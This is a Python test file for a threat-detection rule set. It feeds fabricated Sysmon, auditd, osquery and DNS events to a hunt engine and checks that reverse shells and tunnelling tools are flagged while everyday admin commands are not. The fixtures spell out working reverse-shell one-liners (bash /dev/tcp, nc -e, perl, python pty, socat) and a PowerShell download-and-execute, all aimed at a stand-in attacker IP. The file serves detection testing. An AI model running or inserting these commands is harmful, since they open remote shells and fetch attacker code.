"""Tunnelling tools, reverse shells and ssh/plink forwards from process command lines
(C2Hunt - Tunnelling Tool Or Reverse Shell Command Line), and lookups of tunnelling-service
domains (C2Hunt - DNS Lookup Of Tunnelling Service), on hand-made Sysmon, Sysmon for Linux,
auditd and osquery events: each attack row raises its signal, each everyday admin or developer
command next to it stays quiet."""
import json

from c2hunt_offline import Runner

COMMANDS = "C2Hunt - Tunnelling Tool Or Reverse Shell Command Line - Rule"
DNS = "C2Hunt - DNS Lookup Of Tunnelling Service - Rule"
SYSMON = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"
T0 = 1715677200.0
ATTACKER = "203.0.113.9"


def _sysmon(host, image, command_line, sourcetype=SYSMON, at=0.0):
    return {"_time": T0 + at, "sourcetype": sourcetype, "source": SYSMON, "host": host,
            "EventCode": "1", "Image": image, "CommandLine": command_line, "User": "CORP\\max",
            "ProcessGuid": "{%s-%d}" % (host, len(command_line)), "ParentImage": "explorer.exe",
            "_raw": command_line}


def _hunt(events, name=COMMANDS):
    notables, errors = Runner().hunt(events, names=[name])
    assert errors == {}
    return {n.host: (n.signal, int(n.risk_score), n.fields.get("signals")) for n in notables}


def test_reverse_shells_and_tunnels_from_windows_and_linux_command_lines():
    linux = "sysmon:linux"
    attacks = {
        "lx-bash": ("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1'" % ATTACKER, linux),
        "lx-fifo": ("/usr/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc %s 443 >/tmp/f" % ATTACKER, linux),
        "lx-nc": ("/usr/bin/nc.traditional", "nc -e /bin/sh %s 4444" % ATTACKER, linux),
        "lx-fd": ("/bin/sh", "sh -c 'exec 5<>/dev/tcp/%s/80; cat <&5 | while read l; do $l 2>&5 >&5; done'" % ATTACKER, linux),
        "lx-busybox": ("/bin/busybox", "busybox nc %s 443 -e sh" % ATTACKER, linux),
        "lx-perl": ("/usr/bin/perl", "perl -e 'use Socket;$i=\"%s\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                    "if(connect(S,sockaddr_in(443,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'" % ATTACKER, linux),
        "ws-nc": ("C:\\Users\\Public\\nc.exe", "nc.exe -e cmd.exe %s 443" % ATTACKER, SYSMON),
        "ws-powercat": ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://%s/powercat.ps1');"
                        "powercat -c %s -p 443 -e cmd\"" % (ATTACKER, ATTACKER), SYSMON),
        "ws-ngrok": ("C:\\Users\\max\\Downloads\\ngrok.exe", "ngrok.exe tcp 3389", SYSMON),
        "ws-chisel": ("C:\\ProgramData\\svc.exe", "svc.exe client %s:8443 R:socks" % ATTACKER, SYSMON),
        "ws-cloudflared": ("C:\\Users\\max\\cloudflared.exe", "cloudflared.exe tunnel --url rdp://localhost:3389", SYSMON),
        "ws-frp": ("C:\\Windows\\Temp\\frpc.exe", "frpc.exe -c frpc.toml", SYSMON),
        "ws-plink": ("C:\\Windows\\Temp\\plink.exe", "plink.exe -ssh -R 3389:127.0.0.1:3389 -pw x u@%s" % ATTACKER, SYSMON),
        "lx-ssh-rd": ("/usr/bin/ssh", "ssh -fN -R 2222:localhost:22 -D 1080 u@%s" % ATTACKER, linux),
    }
    benign = {
        "lx-ssh-l": ("/usr/bin/ssh", "ssh -l admin -L 5432:db.corp.example:5432 jump.corp.example", linux),
        "lx-ssh": ("/usr/bin/ssh", "ssh -l admin jump.corp.example", linux),
        "lx-ncz": ("/usr/bin/nc", "nc -zv db.corp.example 5432", linux),
        "lx-socat": ("/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:backend.corp.example:80", linux),
        "lx-http": ("/usr/bin/python3", "python3 -m http.server 8000", linux),
        # port checks through bash's /dev/tcp (health checks, wait-for-it) put no shell on it
        "lx-check": ("/usr/bin/bash", "bash -c '</dev/tcp/db.corp.example/5432'", linux),
        "lx-check2": ("/usr/bin/bash", "timeout 1 bash -c 'echo > /dev/tcp/db.corp.example/5432'", linux),
        "ws-dns": ("C:\\Program Files\\cloudflared\\cloudflared.exe", "cloudflared.exe proxy-dns --port 5053", SYSMON),
        "ws-code": ("C:\\Program Files\\Microsoft VS Code\\Code.exe", "\"Code.exe\" --new-window C:\\src", SYSMON),
        "ws-ps": ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  "powershell Test-NetConnection db.corp.example -Port 1433", SYSMON),
    }
    events = [_sysmon(host, image, cmd, st) for host, (image, cmd, st) in {**attacks, **benign}.items()]
    found = _hunt(events)
    assert set(found) == set(attacks)
    for host in ("lx-bash", "lx-fifo", "lx-nc", "lx-fd", "lx-busybox", "lx-perl", "ws-nc", "ws-powercat"):
        assert found[host][:2] == ("Reverse_Shell_Command_Line", 80), host
    assert found["ws-ngrok"][:2] == ("Tunnelling_Tool_ngrok", 65)
    assert found["ws-chisel"][:2] == ("Tunnelling_Tool_chisel", 65)  # renamed binary, chisel's syntax
    assert found["ws-cloudflared"][:2] == ("Tunnelling_Tool_cloudflared", 65)
    assert found["ws-frp"][:2] == ("Tunnelling_Tool_frp", 65)
    assert found["ws-plink"][:2] == ("SSH_Remote_Port_Forward", 55)
    # a remote and a dynamic forward on one command line add up: 45 + 10
    signal, score, signals = found["lx-ssh-rd"]
    assert score == 55 and set(signals) == {"SSH_Remote_Port_Forward", "SSH_Dynamic_Port_Forward"}


def test_auditd_execve_and_osquery_process_events(tmp_path):
    one_liner = ('import socket,os,pty;s=socket.socket();s.connect(("%s",443));'
                 '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' % ATTACKER)
    syscall = ('type=SYSCALL msg=audit(%.3f:%d): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 '
               'a2=3 a3=0 items=2 ppid=1000 pid=%d auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 '
               'fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="python3" '
               'exe="/usr/bin/python3.11" key="exec"')
    audit = tmp_path / "audit.log"
    audit.write_text("\n".join([
        syscall % (T0, 4242, 1234),
        # auditd writes an argument with spaces or quotes in hex
        'type=EXECVE msg=audit(%.3f:4242): argc=3 a0="python3" a1="-c" a2=%s' % (T0, one_liner.encode().hex().upper()),
        syscall % (T0 + 1, 4243, 1235),
        'type=EXECVE msg=audit(%.3f:4243): argc=3 a0="python3" a1="-m" a2="http.server"' % (T0 + 1),
    ]) + "\n", encoding="utf-8")
    osquery = tmp_path / "osqueryd.results.log"
    rows = [("socat TCP:%s:443 EXEC:/bin/zsh,pty,stderr" % ATTACKER, "/opt/homebrew/bin/socat"),
            ("socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80", "/opt/homebrew/bin/socat")]
    osquery.write_text("".join(json.dumps({
        "name": "process_events", "hostIdentifier": "mac%d.corp.example" % i, "unixTime": int(T0),
        "calendarTime": "Tue May 14 09:00:00 2024 UTC", "action": "added",
        "columns": {"pid": str(700 + i), "path": path, "cmdline": cmd, "parent": "1", "uid": "501"}}) + "\n"
        for i, (cmd, path) in enumerate(rows)), encoding="utf-8")
    runner = Runner()
    events, issues = runner.read_files([str(audit), str(osquery)])
    assert issues == []
    notables, errors = runner.hunt(events, names=[COMMANDS])
    assert errors == {}
    found = sorted((n.fields.get("data_source"), n.host, n.signal, int(n.risk_score), n.fields.get("command_line"))
                   for n in notables)
    assert [f[:4] for f in found] == [("auditd", "audit", "Reverse_Shell_Command_Line", 80),
                                      ("osquery", "mac0.corp.example", "Reverse_Shell_Command_Line", 80)]
    assert "pty.spawn" in found[0][4]


def test_dns_lookups_of_tunnelling_services():
    def zeek(client, query):
        return {"_time": T0, "sourcetype": "bro:dns:json", "source": "dns.log", "host": "sensor",
                "id.orig_h": client, "query": query, "_raw": query}
    events = [
        {"_time": T0, "sourcetype": SYSMON, "source": SYSMON, "host": "ws1", "EventCode": "22",
         "QueryName": "tunnel.us.ngrok.com", "Image": "C:\\Users\\max\\Downloads\\ngrok.exe", "_raw": "q"},
        zeek("10.1.1.5", "quiet-river-1234.trycloudflare.com."),
        zeek("10.1.1.6", "abc.devtunnels.ms"),
        # lookalikes and the vendors' own web sites are not tunnels
        zeek("10.1.1.7", "www.ngrok.com.example.org"),
        zeek("10.1.1.8", "ngrok.com"),
        zeek("10.1.1.9", "www.cloudflare.com"),
    ]
    found = _hunt(events, DNS)
    assert found == {
        "ws1": ("Tunnel_Service_Lookup_ngrok", 50, "Tunnel_Service_Lookup_ngrok"),
        "10.1.1.5": ("Tunnel_Service_Lookup_cloudflared", 50, "Tunnel_Service_Lookup_cloudflared"),
        "10.1.1.6": ("Tunnel_Service_Lookup_devtunnels", 50, "Tunnel_Service_Lookup_devtunnels"),
    }


def test_evtx_attack_samples_raise_only_the_plink_rdp_tunnel(evtx_events):
    """The public EVTX attack samples hold one command line of this kind: plink forwarding RDP
    back through an ssh server on port 80 (T1572). Nothing else in them (Meterpreter, PowerShell
    downloads, admin tools) matches a reverse-shell or tunnelling row."""
    events, issues = evtx_events
    assert issues == []
    notables, errors = Runner().hunt(events, names=[COMMANDS, DNS])
    assert errors == {}
    found = [(n.signal, int(n.risk_score), n.fields.get("process_name")) for n in notables]
    assert found == [("SSH_Remote_Port_Forward", 55, "plink.exe")]
    assert "-R 127.0.0.3:4444:127.0.0.2:3389" in notables[0].fields.get("command_line")


def test_auditd_execve_records_as_splunk_extracts_them():
    """In Splunk each audit record is its own event and EXECVE's arguments are fields a0..aN,
    quotes dropped, hex left as hex (the offline reader decodes them itself): the search decodes
    an all-hex argument that hides a space or quote, and leaves a port or a word alone."""
    shell = "bash -i >& /dev/tcp/%s/4444 0>&1" % ATTACKER

    def record(kind, serial, **fields):
        raw = "type=%s msg=audit(%.3f:%d): " % (kind, T0, serial)
        return dict(fields, _time=T0, sourcetype="linux:audit", source="/var/log/audit/audit.log",
                    host="lnx31", type=kind, _raw=raw + " ".join("%s=%s" % kv for kv in fields.items()))
    events = [
        record("SYSCALL", 77, syscall="59", exe="/usr/bin/bash", pid="4100", ppid="1", auid="33"),
        record("EXECVE", 77, argc="3", a0="bash", a1="-c", a2=shell.encode().hex().upper()),
        record("SYSCALL", 78, syscall="59", exe="/usr/bin/nc", pid="4101", ppid="1", auid="33"),
        record("EXECVE", 78, argc="3", a0="nc", a1="-lvnp", a2="4444"),
    ]
    notables, errors = Runner().hunt(events, names=[COMMANDS])
    assert errors == {}
    assert [(n.host, n.signal, n.fields.get("command_line")) for n in notables] == [
        ("lnx31", "Reverse_Shell_Command_Line", "bash -c " + shell)]
